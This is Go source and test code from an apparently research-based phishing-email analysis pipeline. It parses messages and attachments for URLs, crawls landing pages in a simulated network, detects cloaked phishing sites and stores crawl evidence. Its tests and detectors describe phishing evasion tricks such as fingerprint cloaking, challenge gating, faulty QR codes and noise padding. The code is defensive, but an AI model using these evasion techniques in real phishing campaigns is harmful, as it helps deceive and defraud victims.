	if ma.Landing == nil {
		t.Fatal("no landing info")
	}
	if ma.Landing.DNS30DayTotal < 43 {
		t.Errorf("DNS total = %d, want >= 43", ma.Landing.DNS30DayTotal)
	}
}

func buildZip(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for name, content := range files {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(content)); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestDifferentialProbeDetectsFingerprintCloaking(t *testing.T) {
	env := newEnv(t)
	cloaked := phishkit.Deploy(env.net, phishkit.SiteConfig{
		Host:            "fpcloak-probe.com",
		Brand:           phishkit.BrandAcmeTravelTech,
		FingerprintGate: true,
	})
	probe, err := env.pipe.RunDifferentialProbe(cloaked.LandingURL)
	if err != nil {
		t.Fatal(err)
	}
	if !probe.Cloaked {
		t.Error("fingerprint-gated site must be flagged by the differential probe")
	}
	if len(probe.Evidence) == 0 {
		t.Error("evidence missing")
	}
}

func TestDifferentialProbeTurnstileGate(t *testing.T) {
	env := newEnv(t)
	ts := botdetect.NewTurnstile(env.net, "turnstile.example")
	gated := phishkit.Deploy(env.net, phishkit.SiteConfig{
		Host:      "tsgate-probe.com",
		Brand:     phishkit.BrandSkyBooker,
		Turnstile: ts,
	})
	probe, err := env.pipe.RunDifferentialProbe(gated.LandingURL)
	if err != nil {
		t.Fatal(err)
	}
	if !probe.Cloaked {
		t.Error("challenge-gated site must diverge between profiles")
	}
}

func TestDifferentialProbeCleanSiteNotFlagged(t *testing.T) {
	env := newEnv(t)
	ip := env.net.AllocateIP(webnet.IPDatacenter)
	env.net.AddDNS("honest.example", ip)
	env.net.Serve("honest.example", func(*webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Headers: map[string]string{"Content-Type": "text/html"},
			Body: []byte(`<html><body><h1>Welcome</h1><p>Plain content for everyone.</p></body></html>`)}
	})
	probe, err := env.pipe.RunDifferentialProbe("https://honest.example/")
	if err != nil {
		t.Fatal(err)
	}
	if probe.Cloaked {
		t.Errorf("honest site flagged: %v", probe.Evidence)
	}
}

func TestPipelineResilientToCorruptAttachments(t *testing.T) {
	// Failure injection: corrupt CBI image, truncated PDF, and garbage ZIP
	// must degrade gracefully — the message still gets a disposition.
	env := newEnv(t)
	raw := mime.NewBuilder("a@phish.ru", "v@corp.example", "broken parts", _epoch).
		Text("see attachments https://gone.example/x").
		Inline("image/x-cbi", "bad.cbi", []byte("CBIM\x00\x00\x00\x10")).    // truncated CBI
		Attach("application/pdf", "bad.pdf", []byte("%PDF-1.4\ngarbage")).   // no objects
		Attach("application/zip", "bad.zip", []byte("PK\x03\x04not-a-zip")). // corrupt archive
		Build()
	ma, err := env.pipe.AnalyzeMessage(raw)
	if err != nil {
		t.Fatalf("corrupt attachments must not fail the analysis: %v", err)
	}
	if ma.Outcome != OutcomeError {
		t.Errorf("outcome = %v (the one text URL is NXDOMAIN)", ma.Outcome)
	}
}

func TestPipelineNestedEMLReported(t *testing.T) {
	// The common reporting flow: the suspicious message arrives as a
	// message/rfc822 attachment of the report email; URLs inside the inner
	// message must still be found and crawled.
	env := newEnv(t)
	site := phishkit.Deploy(env.net, phishkit.SiteConfig{
		Host:  "nested-target.com",
		Brand: phishkit.BrandTransitGo,
	})
	inner := mime.NewBuilder("evil@phish.ru", "victim@corp.example", "inner lure", _epoch).
		Text("verify here: " + site.LandingURL).Build()
	outer := mime.NewBuilder("victim@corp.example", "soc@corp.example", "FW: suspicious", _epoch).
		Text("This looks like phishing, please review.").
		AttachEML("reported.eml", inner).Build()
	ma, err := env.pipe.AnalyzeMessage(outer)
	if err != nil {
		t.Fatal(err)
	}
	if ma.Outcome != OutcomeActivePhish {
		t.Errorf("outcome = %v, want active-phishing from the nested EML", ma.Outcome)
	}
}

func TestBannerEnrichment(t *testing.T) {
	env := newEnv(t)
	site := phishkit.Deploy(env.net, phishkit.SiteConfig{
		Host:  "banner-host.com",
		Brand: phishkit.BrandSkyBooker,
	})
	ip, err := env.net.Resolve("banner-host.com", "setup")
	if err != nil {
		t.Fatal(err)
	}
	env.net.SetBanner(ip, "nginx/1.24.0")
	raw := buildMsg(t, "Notice: "+site.LandingURL)
	ma, err := env.pipe.AnalyzeMessage(raw)
	if err != nil {
		t.Fatal(err)
	}
	if ma.Landing == nil || ma.Landing.Banner != "nginx/1.24.0" {
		t.Errorf("banner enrichment missing: %+v", ma.Landing)
	}
}
