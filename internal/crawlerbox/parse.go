// Package crawlerbox implements the paper's analysis pipeline (Figure 1):
// recursive message parsing that extracts web resources from every MIME
// part (text, HTML, images with OCR and QR codes, PDFs, ZIP archives,
// nested EMLs), an evasive crawling phase built on a pluggable crawler
// (NotABot by default — the component is modular by design), screenshot
// classification against the protected brands' login pages via fuzzy
// hashing, a cloaking-technique census over the loaded scripts and traffic,
// and WHOIS / certificate / passive-DNS enrichment.
package crawlerbox

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"regexp"
	"strings"

	"crawlerbox/internal/imaging"
	"crawlerbox/internal/mime"
	"crawlerbox/internal/pdfx"
	"crawlerbox/internal/qrcode"
	"crawlerbox/internal/urlx"
)

// URLSource identifies where in the message a URL was found.
type URLSource string

// URL sources.
const (
	SourceText     URLSource = "text"
	SourceHTML     URLSource = "html"
	SourceImageQR  URLSource = "image-qr"
	SourceImageOCR URLSource = "image-ocr"
	SourcePDFLink  URLSource = "pdf-link"
	SourcePDFText  URLSource = "pdf-text"
	SourcePDFQR    URLSource = "pdf-image-qr"
	SourceZIP      URLSource = "zip"
	SourceEML      URLSource = "eml"
)

// ExtractedURL is one URL recovered during parsing.
type ExtractedURL struct {
	URL    string
	Source URLSource
	// LenientOnly marks URLs that only a lenient extractor recovers —
	// the faulty-QR evasion signature.
	LenientOnly bool
	// Rewritten marks URLs recovered by unwrapping a gateway rewrite
	// (Safe Links / Proofpoint-style); URL holds the canonical form.
	Rewritten bool
}

// HTMLAttachmentFile is an HTML file attached separately from the body.
type HTMLAttachmentFile struct {
	Filename string
	Content  string
}

// ParseResult is the outcome of the parsing phase for one message.
type ParseResult struct {
	Subject string
	From    string
	Auth    mime.AuthResults
	URLs    []ExtractedURL
	// HTMLAttachments are loaded dynamically during the crawl phase.
	HTMLAttachments []HTMLAttachmentFile
	// ZIPWithHTA marks archives containing HTA droppers (never executed).
	ZIPWithHTA bool
	// HTAURLs are URLs statically recovered from HTA droppers.
	HTAURLs []string
	// FaultyQR marks QR payloads that defeat strict whole-payload parsing.
	FaultyQR bool
	// QRCount counts decoded QR codes.
	QRCount int
	// NoisePadded marks bodies with the line-break + random-text padding.
	NoisePadded bool
	// OTPCodes are access codes found in the body text (used to drive
	// OTP-gated pages during the crawl).
	OTPCodes []string
	// RewrittenURLs counts gateway-rewritten links that were decoded back
	// to their canonical URL during extraction.
	RewrittenURLs int
}

// ParseMessage runs the full recursive parsing phase over a raw message.
func (p *Pipeline) ParseMessage(raw []byte) (*ParseResult, error) {
	root, err := mime.Parse(raw)
	if err != nil {
		return nil, fmt.Errorf("crawlerbox: parsing message: %w", err)
	}
	res := &ParseResult{
		Subject: root.Subject(),
		From:    root.From(),
		Auth:    mime.ParseAuthResults(root.Header.Get("Authentication-Results")),
	}
	seen := map[string]bool{}
	err = mime.Walk(root, func(part *mime.Part) error {
		p.parsePart(part, res, seen)
		return nil
	})
	if err != nil {
		return nil, err
	}
	return res, nil
}

func (p *Pipeline) parsePart(part *mime.Part, res *ParseResult, seen map[string]bool) {
	switch {
	case part.ContentType == "text/plain":
		text := string(part.Body)
		addURLs(res, seen, extractFromText(text), SourceText)
		if detectNoisePadding(text) {
			res.NoisePadded = true
		}
		res.OTPCodes = append(res.OTPCodes, findOTPCodes(text)...)
	case part.ContentType == "text/html":
		if part.Disposition == "attachment" {
			res.HTMLAttachments = append(res.HTMLAttachments, HTMLAttachmentFile{
				Filename: part.Filename, Content: string(part.Body),
			})
			return
		}
		addURLs(res, seen, extractFromHTML(string(part.Body)), SourceHTML)
		res.OTPCodes = append(res.OTPCodes, findOTPCodes(string(part.Body))...)
	case strings.HasPrefix(part.ContentType, "image/"):
		p.parseImage(part.Body, res, seen, SourceImageQR, SourceImageOCR)
	case part.ContentType == "application/pdf":
		p.parsePDF(part.Body, res, seen)
	case part.ContentType == "application/zip":
		p.parseZIP(part.Body, res, seen)
	case part.ContentType == "application/octet-stream":
		p.sniffOctetStream(part.Body, res, seen)
	}
	// message/rfc822 children are visited by the walker itself; their
	// parts flow through the same dispatch above.
}

// sniffOctetStream classifies opaque binaries by magic number, the way the
// original pipeline dispatches Octet Stream parts.
func (p *Pipeline) sniffOctetStream(body []byte, res *ParseResult, seen map[string]bool) {
	switch {
	case imaging.IsCBI(body):
		p.parseImage(body, res, seen, SourceImageQR, SourceImageOCR)
	case bytes.HasPrefix(body, []byte("%PDF")):
		p.parsePDF(body, res, seen)
	case bytes.HasPrefix(body, []byte("PK\x03\x04")):
		p.parseZIP(body, res, seen)
	}
}

// parseImage scans a raster for QR codes and for visible URL text.
func (p *Pipeline) parseImage(body []byte, res *ParseResult, seen map[string]bool, qrSrc, ocrSrc URLSource) {
	img, err := imaging.DecodeCBI(body)
	if err != nil {
		return
	}
	// QR pass.
	if dec, err := qrcode.DecodeImage(img); err == nil {
		res.QRCount++
		_, strictOK := urlx.ExtractStrictWhole(dec.Payload)
		for _, e := range urlx.ExtractLenient(dec.Payload) {
			lenientOnly := !strictOK
			if lenientOnly {
				res.FaultyQR = true
			}
			addURL(res, seen, ExtractedURL{URL: e.URL, Source: qrSrc, LenientOnly: lenientOnly})
		}
		return
	}
	// OCR pass.
	for _, line := range imaging.OCR(img, p.ocrMinScore()) {
		lower := strings.ToLower(line)
		for _, e := range urlx.ExtractLenient(lower) {
			addURL(res, seen, ExtractedURL{URL: e.URL, Source: ocrSrc})
		}
	}
}

// parsePDF extracts annotation URIs, text URLs, and QR codes in embedded
// images.
func (p *Pipeline) parsePDF(body []byte, res *ParseResult, seen map[string]bool) {
	parsed, err := pdfx.Parse(body)
	if err != nil {
		return
	}
	for _, uri := range parsed.LinkURIs {
		for _, e := range urlx.ExtractLenient(uri) {
			addURL(res, seen, ExtractedURL{URL: e.URL, Source: SourcePDFLink})
		}
	}
	for _, line := range parsed.TextLines {
		for _, e := range urlx.ExtractStrict(line) {
			addURL(res, seen, ExtractedURL{URL: e.URL, Source: SourcePDFText})
		}
		res.OTPCodes = append(res.OTPCodes, findOTPCodes(line)...)
	}
	for _, img := range parsed.Images {
		if dec, err := qrcode.DecodeImage(img); err == nil {
			res.QRCount++
			_, strictOK := urlx.ExtractStrictWhole(dec.Payload)
			for _, e := range urlx.ExtractLenient(dec.Payload) {
				lenientOnly := !strictOK
				if lenientOnly {
					res.FaultyQR = true
				}
				addURL(res, seen, ExtractedURL{URL: e.URL, Source: SourcePDFQR, LenientOnly: lenientOnly})
			}
		}
	}
}

// parseZIP unpacks an archive and routes each member through the
// appropriate analyzer. HTA members are never executed; their script
// sources are scanned statically.
func (p *Pipeline) parseZIP(body []byte, res *ParseResult, seen map[string]bool) {
	zr, err := zip.NewReader(bytes.NewReader(body), int64(len(body)))
	if err != nil {
		return
	}
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			continue
		}
		content, err := io.ReadAll(io.LimitReader(rc, 4<<20))
		_ = rc.Close()
		if err != nil {
			continue
		}
		name := strings.ToLower(f.Name)
		switch {
		case strings.HasSuffix(name, ".hta"):
			res.ZIPWithHTA = true
			for _, e := range urlx.ExtractLenient(string(content)) {
				res.HTAURLs = append(res.HTAURLs, e.URL)
				addURL(res, seen, ExtractedURL{URL: e.URL, Source: SourceZIP})
			}
		case strings.HasSuffix(name, ".html") || strings.HasSuffix(name, ".htm"):
			res.HTMLAttachments = append(res.HTMLAttachments, HTMLAttachmentFile{
				Filename: f.Name, Content: string(content),
			})
		case strings.HasSuffix(name, ".txt"):
			addURLs(res, seen, extractFromText(string(content)), SourceZIP)
		case strings.HasSuffix(name, ".pdf") || bytes.HasPrefix(content, []byte("%PDF")):
			p.parsePDF(content, res, seen)
		case imaging.IsCBI(content):
			p.parseImage(content, res, seen, SourceImageQR, SourceImageOCR)
		case strings.HasSuffix(name, ".eml"):
			if inner, err := p.ParseMessage(content); err == nil {
				mergeParse(res, seen, inner)
			}
		}
	}
}

func mergeParse(dst *ParseResult, seen map[string]bool, src *ParseResult) {
	for _, u := range src.URLs {
		addURL(dst, seen, u)
	}
	dst.HTMLAttachments = append(dst.HTMLAttachments, src.HTMLAttachments...)
	dst.ZIPWithHTA = dst.ZIPWithHTA || src.ZIPWithHTA
	dst.HTAURLs = append(dst.HTAURLs, src.HTAURLs...)
	dst.FaultyQR = dst.FaultyQR || src.FaultyQR
	dst.QRCount += src.QRCount
	dst.NoisePadded = dst.NoisePadded || src.NoisePadded
	dst.OTPCodes = append(dst.OTPCodes, src.OTPCodes...)
	dst.RewrittenURLs += src.RewrittenURLs
}

func extractFromText(text string) []string {
	var out []string
	for _, e := range urlx.ExtractStrict(text) {
		out = append(out, e.URL)
	}
	return out
}

func extractFromHTML(html string) []string {
	var out []string
	// Static href/src extraction; scripts run later in the crawl phase.
	doc := parseHTML(html)
	for _, link := range doc {
		out = append(out, link)
	}
	return out
}

func addURLs(res *ParseResult, seen map[string]bool, urls []string, src URLSource) {
	for _, u := range urls {
		addURL(res, seen, ExtractedURL{URL: u, Source: src})
	}
}

// addURL canonicalizes and dedups one extracted URL. Gateway rewrites
// (Safe Links / Proofpoint URL Defense wrappers) are decoded here, before
// the dedup map, so a wrapped and an unwrapped report of the same landing
// URL collapse to one entry — and downstream consumers (the crawl stage,
// the ingest verdict cache) only ever see canonical URLs.
func addURL(res *ParseResult, seen map[string]bool, u ExtractedURL) {
	if u.URL == "" {
		return
	}
	if decoded, layers := urlx.DecodeRewritten(u.URL); layers > 0 {
		u.URL = decoded
		u.Rewritten = true
		res.RewrittenURLs++
	}
	if seen[u.URL] {
		return
	}
	seen[u.URL] = true
	res.URLs = append(res.URLs, u)
}

// detectNoisePadding spots the Section V-C1 signature: a long run of line
// breaks followed by filler text.
func detectNoisePadding(text string) bool {
	breaks := 0
	maxRun := 0
	for _, r := range text {
		if r == '\n' {
			breaks++
			if breaks > maxRun {
				maxRun = breaks
			}
		} else if r != '\r' && r != ' ' && r != '\t' {
			breaks = 0
		}
	}
	return maxRun >= 20
}

var _otpRe = regexp.MustCompile(`(?i)(?:access code|one.time|security code|otp)[^0-9]{0,40}([0-9]{6})`)

// findOTPCodes recovers 6-digit access codes mentioned near OTP phrasing.
func findOTPCodes(text string) []string {
	var out []string
	for _, m := range _otpRe.FindAllStringSubmatch(text, -1) {
		out = append(out, m[1])
	}
	return out
}
