package crawlerbox

import (
	"encoding/binary"
	"fmt"

	"crawlerbox/internal/browser"
	"crawlerbox/internal/evstore"
	"crawlerbox/internal/imaging"
)

// VisitEvidence is the on-disk form of one VisitRecord: everything bulky a
// crawl produced (markup, screenshot bytes, console output, request log),
// flattened so it round-trips through a compact binary codec. The DOM tree
// is not stored — HTML retains the markup and can be re-parsed on load.
type VisitEvidence struct {
	URL string
	// Err is the visit error text ("" when the visit succeeded).
	Err string
	// Missing marks a VisitRecord that carried no browser result at all.
	Missing bool

	RequestedURL string
	FinalURL     string
	Status       int
	HTML         string
	// Screenshot holds the CBI-encoded screenshot bytes (nil when the
	// visit produced none).
	Screenshot   []byte
	Console      []string
	Scripts      []string
	ScriptErrors []string
	Navigations  []string
	Requests     []browser.RequestRecord
	DebuggerHits int
	Degraded     bool
}

// evidenceVersion is the codec version byte leading every evidence record.
const evidenceVersion = 1

// EncodeEvidence serializes a message's visit records into one evidence
// payload. The encoding is varint-framed and self-contained: no field
// references anything outside the payload, so a record decodes without the
// run that produced it.
func EncodeEvidence(visits []VisitRecord) []byte {
	buf := []byte{evidenceVersion}
	buf = binary.AppendUvarint(buf, uint64(len(visits)))
	for i := range visits {
		buf = appendVisit(buf, &visits[i])
	}
	return buf
}

func appendVisit(buf []byte, v *VisitRecord) []byte {
	buf = appendString(buf, v.URL)
	errText := ""
	if v.Err != nil {
		errText = v.Err.Error()
	}
	buf = appendString(buf, errText)
	res := v.Result
	buf = appendBool(buf, res == nil)
	if res == nil {
		return buf
	}
	buf = appendString(buf, res.RequestedURL)
	buf = appendString(buf, res.FinalURL)
	buf = binary.AppendUvarint(buf, uint64(res.Status))
	buf = appendString(buf, res.HTML)
	var shot []byte
	if res.Screenshot != nil {
		shot = imaging.EncodeCBI(res.Screenshot)
	}
	buf = appendBytes(buf, shot)
	buf = appendStrings(buf, res.Console)
	buf = appendStrings(buf, res.Scripts)
	buf = appendStrings(buf, res.ScriptErrors)
	buf = appendStrings(buf, res.Navigations)
	buf = binary.AppendUvarint(buf, uint64(len(res.Requests)))
	for _, r := range res.Requests {
		buf = appendString(buf, r.URL)
		buf = appendString(buf, r.Method)
		buf = appendString(buf, r.Initiator)
		buf = appendString(buf, r.Referer)
		buf = binary.AppendUvarint(buf, uint64(r.Status))
		buf = appendString(buf, r.Err)
	}
	buf = binary.AppendUvarint(buf, uint64(res.DebuggerHits))
	buf = appendBool(buf, res.Degraded)
	return buf
}

// DecodeEvidence parses an evidence payload back into visit evidence.
func DecodeEvidence(payload []byte) ([]VisitEvidence, error) {
	d := &evDecoder{buf: payload}
	if v := d.byte(); v != evidenceVersion {
		return nil, fmt.Errorf("crawlerbox: evidence version %d, want %d", v, evidenceVersion)
	}
	n := d.uvarint()
	if n > uint64(len(payload)) {
		return nil, fmt.Errorf("crawlerbox: evidence claims %d visits in %d bytes", n, len(payload))
	}
	out := make([]VisitEvidence, 0, n)
	for i := uint64(0); i < n && d.err == nil; i++ {
		var ev VisitEvidence
		ev.URL = d.string()
		ev.Err = d.string()
		ev.Missing = d.bool()
		if !ev.Missing {
			ev.RequestedURL = d.string()
			ev.FinalURL = d.string()
			ev.Status = int(d.uvarint())
			ev.HTML = d.string()
			ev.Screenshot = d.bytes()
			ev.Console = d.strings()
			ev.Scripts = d.strings()
			ev.ScriptErrors = d.strings()
			ev.Navigations = d.strings()
			nr := d.uvarint()
			if nr > uint64(len(payload)) {
				return nil, fmt.Errorf("crawlerbox: evidence claims %d requests in %d bytes", nr, len(payload))
			}
			for j := uint64(0); j < nr && d.err == nil; j++ {
				ev.Requests = append(ev.Requests, browser.RequestRecord{
					URL:       d.string(),
					Method:    d.string(),
					Initiator: d.string(),
					Referer:   d.string(),
					Status:    int(d.uvarint()),
					Err:       d.string(),
				})
			}
			ev.DebuggerHits = int(d.uvarint())
			ev.Degraded = d.bool()
		}
		out = append(out, ev)
	}
	if d.err != nil {
		return nil, d.err
	}
	return out, nil
}

// SpillEvidence encodes ma's visit records, appends them to the store as
// one KindAnalysis record, stamps the returned handle on ma.Evidence, and
// drops ma.Visits so the bulky evidence no longer pins RAM. Callers that
// still need the visit data (hot-load detection, landing titles) must
// consume it before spilling. A nil store or an analysis with no visits is
// a no-op.
func SpillEvidence(store *evstore.Store, ma *MessageAnalysis) error {
	if store == nil || ma == nil || len(ma.Visits) == 0 {
		return nil
	}
	h, err := store.Append(evstore.KindAnalysis, EncodeEvidence(ma.Visits))
	if err != nil {
		return err
	}
	ma.Evidence = h
	ma.Visits = nil
	return nil
}

// LoadEvidence reads back the evidence record a spilled analysis points to.
func LoadEvidence(store *evstore.Store, h evstore.Handle) ([]VisitEvidence, error) {
	kind, payload, err := store.At(h)
	if err != nil {
		return nil, err
	}
	if kind != evstore.KindAnalysis {
		return nil, fmt.Errorf("crawlerbox: handle addresses kind %d, want analysis", kind)
	}
	return DecodeEvidence(payload)
}

// --- codec primitives ---

func appendString(buf []byte, s string) []byte {
	buf = binary.AppendUvarint(buf, uint64(len(s)))
	return append(buf, s...)
}

func appendBytes(buf, b []byte) []byte {
	buf = binary.AppendUvarint(buf, uint64(len(b)))
	return append(buf, b...)
}

func appendStrings(buf []byte, ss []string) []byte {
	buf = binary.AppendUvarint(buf, uint64(len(ss)))
	for _, s := range ss {
		buf = appendString(buf, s)
	}
	return buf
}

func appendBool(buf []byte, b bool) []byte {
	if b {
		return append(buf, 1)
	}
	return append(buf, 0)
}

// evDecoder reads the codec's primitives, latching the first error so
// callers can decode a full struct and check once.
type evDecoder struct {
	buf []byte
	err error
}

func (d *evDecoder) fail() {
	if d.err == nil {
		d.err = fmt.Errorf("crawlerbox: truncated evidence payload")
	}
}

func (d *evDecoder) byte() byte {
	if d.err != nil || len(d.buf) < 1 {
		d.fail()
		return 0
	}
	b := d.buf[0]
	d.buf = d.buf[1:]
	return b
}

func (d *evDecoder) uvarint() uint64 {
	if d.err != nil {
		return 0
	}
	v, n := binary.Uvarint(d.buf)
	if n <= 0 {
		d.fail()
		return 0
	}
	d.buf = d.buf[n:]
	return v
}

func (d *evDecoder) take(n uint64) []byte {
	if d.err != nil {
		return nil
	}
	if n > uint64(len(d.buf)) {
		d.fail()
		return nil
	}
	b := d.buf[:n]
	d.buf = d.buf[n:]
	return b
}

func (d *evDecoder) string() string { return string(d.take(d.uvarint())) }

func (d *evDecoder) bytes() []byte {
	b := d.take(d.uvarint())
	if len(b) == 0 {
		return nil
	}
	out := make([]byte, len(b))
	copy(out, b)
	return out
}

func (d *evDecoder) strings() []string {
	n := d.uvarint()
	if d.err != nil || n == 0 {
		return nil
	}
	if n > uint64(len(d.buf))+1 {
		d.fail()
		return nil
	}
	out := make([]string, 0, n)
	for i := uint64(0); i < n && d.err == nil; i++ {
		out = append(out, d.string())
	}
	return out
}

func (d *evDecoder) bool() bool { return d.byte() != 0 }
