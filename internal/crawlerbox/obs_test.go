package crawlerbox

import (
	"bytes"
	"context"
	"errors"
	"sort"
	"testing"
	"time"

	"crawlerbox/internal/dataset"
	"crawlerbox/internal/obs"
	"crawlerbox/internal/phishkit"
)

// observedCorpusDumps runs the corpusSummaries workload (fresh seed-7 world,
// first 120 messages) with an Observer wired in and returns the two exports:
// the JSONL trace dump and the Prometheus metrics dump.
func observedCorpusDumps(t *testing.T, workers int) (jsonl, prom []byte) {
	t.Helper()
	c, err := dataset.Generate(dataset.Config{Seed: 7, Scale: 0.1})
	if err != nil {
		t.Fatal(err)
	}
	pipe := New(c.Net, c.Registry)
	o := obs.New()
	pipe.Obs = o
	c.Net.Metrics = o.Metrics
	brands := make([]string, 0, len(c.BrandURLs))
	for b := range c.BrandURLs {
		brands = append(brands, b)
	}
	sort.Strings(brands)
	for _, b := range brands {
		if err := pipe.AddReference(context.Background(), b, c.BrandURLs[b]); err != nil {
			t.Fatal(err)
		}
	}
	msgs := c.Messages
	if len(msgs) > 120 {
		msgs = msgs[:120]
	}
	specs := make([]MessageSpec, len(msgs))
	for i, m := range msgs {
		specs[i] = MessageSpec{Raw: m.Raw, ID: int64(i + 1), At: m.Delivered.Add(2 * time.Hour)}
	}
	for i, r := range pipe.AnalyzeCorpus(context.Background(), specs, workers) {
		if r.Err != nil {
			t.Fatalf("workers=%d message %d: %v", workers, i, r.Err)
		}
	}
	var tb, mb bytes.Buffer
	if err := o.WriteJSONL(&tb); err != nil {
		t.Fatal(err)
	}
	if err := o.Metrics.WriteProm(&mb); err != nil {
		t.Fatal(err)
	}
	return tb.Bytes(), mb.Bytes()
}

// TestObservedCorpusDeterministicAcrossWorkers is the ISSUE's byte-level
// determinism test: the JSONL trace dump and the Prometheus metrics dump
// must be byte-identical for workers=1 and workers=8 (and clean under
// -race). Span timelines read each analysis's private clock fork and every
// metric write is commutative, so no schedule can perturb either export.
func TestObservedCorpusDeterministicAcrossWorkers(t *testing.T) {
	jsonl1, prom1 := observedCorpusDumps(t, 1)
	jsonl8, prom8 := observedCorpusDumps(t, 8)
	if !bytes.Equal(jsonl1, jsonl8) {
		t.Errorf("trace JSONL diverges between workers=1 (%d bytes) and workers=8 (%d bytes)",
			len(jsonl1), len(jsonl8))
		reportFirstDiffLine(t, jsonl1, jsonl8)
	}
	if !bytes.Equal(prom1, prom8) {
		t.Errorf("metrics dump diverges between workers=1 (%d bytes) and workers=8 (%d bytes)",
			len(prom1), len(prom8))
		reportFirstDiffLine(t, prom1, prom8)
	}
	if len(jsonl1) == 0 || len(prom1) == 0 {
		t.Error("observed run produced empty exports")
	}
}

// reportFirstDiffLine logs the first differing line of two dumps.
func reportFirstDiffLine(t *testing.T, a, b []byte) {
	t.Helper()
	la, lb := bytes.Split(a, []byte("\n")), bytes.Split(b, []byte("\n"))
	for i := 0; i < len(la) && i < len(lb); i++ {
		if !bytes.Equal(la[i], lb[i]) {
			t.Logf("first diff at line %d:\n  workers=1: %s\n  workers=8: %s", i+1, la[i], lb[i])
			return
		}
	}
	t.Logf("dumps diverge in length: %d vs %d lines", len(la), len(lb))
}

// TestSpanStatusTaxonomy pins the stable span-attribute vocabulary: every
// Outcome and ErrorKind value must map to a distinct, non-"unknown" string
// (these strings are root-span attributes and metric labels, so renaming one
// silently breaks trace goldens and dashboards), and outcomeSpanStatus must
// mark exactly the error-page disposition as failed.
func TestSpanStatusTaxonomy(t *testing.T) {
	outcomes := []Outcome{
		OutcomeNoResource, OutcomeError, OutcomeInteraction,
		OutcomeDownload, OutcomeActivePhish, OutcomeCloaked,
		OutcomePartial,
	}
	seen := map[string]bool{}
	for _, o := range outcomes {
		s := o.String()
		if s == "unknown" || s == "" {
			t.Errorf("Outcome(%d) has no stable name", o)
		}
		if seen[s] {
			t.Errorf("Outcome name %q is not unique", s)
		}
		seen[s] = true
		want := obs.StatusOK
		if o == OutcomeError {
			want = obs.StatusError
		}
		if got := outcomeSpanStatus(o); got != want {
			t.Errorf("outcomeSpanStatus(%s) = %q, want %q", s, got, want)
		}
	}
	// Sentinel: one past the last outcome must fall through to "unknown",
	// proving the list above covers the whole enumeration.
	if got := (OutcomePartial + 1).String(); got != "unknown" {
		t.Errorf("sentinel outcome = %q; a new Outcome was added without extending this test", got)
	}

	kinds := map[ErrorKind]string{
		ErrorNone:    "none",
		ErrorNetwork: "network",
		ErrorContent: "content",
	}
	for k, want := range kinds {
		if got := k.String(); got != want {
			t.Errorf("ErrorKind(%d) = %q, want %q", k, got, want)
		}
	}
	if got := (ErrorContent + 1).String(); got != "none" {
		t.Errorf("sentinel error kind = %q; a new ErrorKind was added without extending this test", got)
	}
}

// TestForkedClockSpanTimeline is the ISSUE's per-request clock regression:
// a visit analyzed at spec.At runs on a private fork of the virtual clock,
// and every span — including the webnet request spans underneath the visit —
// must record timestamps on that fork's timeline (anchored at AnalyzedAt),
// never on the shared world clock, which must not move at all.
func TestForkedClockSpanTimeline(t *testing.T) {
	env := newEnv(t)
	o := obs.New()
	env.pipe.Obs = o
	env.net.Metrics = o.Metrics
	site := phishkit.Deploy(env.net, phishkit.SiteConfig{
		Host:  "forked-clock.com",
		Brand: phishkit.BrandAcmeTravelTech,
	})
	worldBefore := env.net.Clock.Now()
	at := worldBefore.Add(45 * 24 * time.Hour) // far from the world clock
	ma, err := env.pipe.Analyze(context.Background(),
		MessageSpec{Raw: buildMsg(t, "Verify your account: "+site.LandingURL), ID: 99, At: at})
	if err != nil {
		t.Fatal(err)
	}
	if !ma.AnalyzedAt.Equal(at) {
		t.Fatalf("AnalyzedAt = %v, want %v", ma.AnalyzedAt, at)
	}
	if !env.net.Clock.Now().Equal(worldBefore) {
		t.Errorf("world clock moved during the analysis: %v -> %v", worldBefore, env.net.Clock.Now())
	}

	traces := o.Traces()
	if len(traces) != 1 {
		t.Fatalf("traces = %d, want 1", len(traces))
	}
	tr := traces[0]
	root := obs.Root(tr)
	if root == nil || !root.StartTime.Equal(at) {
		t.Fatalf("root span start = %v, want AnalyzedAt baseline %v", root.StartTime, at)
	}
	var requests int
	for _, s := range tr.Spans() {
		if s.StartTime.Before(at) || s.EndTime.Before(s.StartTime) {
			t.Errorf("span %d (%s %q) off the fork timeline: start=%v end=%v",
				s.ID, s.Kind, s.Name, s.StartTime, s.EndTime)
		}
		if s.Kind == obs.SpanRequest {
			requests++
			if !s.StartTime.After(worldBefore) {
				t.Errorf("request span %q stamped from the world clock: start=%v", s.Name, s.StartTime)
			}
		}
	}
	if requests == 0 {
		t.Error("no request spans recorded under the visit")
	}
	if root.Duration() <= 0 {
		t.Error("root span has no virtual duration despite network round trips")
	}
}

// TestCorpusCancellationObserved covers the mid-corpus cancellation
// satellite: specs never started report a wrapped, errors.Is-compatible
// context error, carry the Skipped marker, and the skipped count lands in
// the metrics registry.
func TestCorpusCancellationObserved(t *testing.T) {
	env := newEnv(t)
	o := obs.New()
	env.pipe.Obs = o
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	specs := []MessageSpec{
		{Raw: buildMsg(t, "Click https://taken-down.example/login now"), ID: 1},
		{Raw: buildMsg(t, "Click https://taken-down.example/login again"), ID: 2},
		{Raw: buildMsg(t, "Click https://taken-down.example/login later"), ID: 3},
	}
	results := env.pipe.AnalyzeCorpus(ctx, specs, 2)
	skipped := 0
	for i, r := range results {
		if !errors.Is(r.Err, context.Canceled) {
			t.Errorf("message %d: err = %v, want context.Canceled", i, r.Err)
		}
		if r.Skipped {
			skipped++
			if r.Analysis != nil {
				t.Errorf("message %d: skipped spec carries an analysis", i)
			}
		}
	}
	if skipped == 0 {
		t.Fatal("pre-cancelled run started specs it should have skipped")
	}
	var got float64
	for _, p := range o.Metrics.Snapshot() {
		if p.Name == "crawlerbox_corpus_skipped_total" {
			got = p.Value
		}
	}
	if got != float64(skipped) {
		t.Errorf("crawlerbox_corpus_skipped_total = %v, want %d", got, skipped)
	}
}
