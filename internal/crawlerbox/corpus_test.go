package crawlerbox

import (
	"context"
	"errors"
	"sort"
	"testing"
	"time"

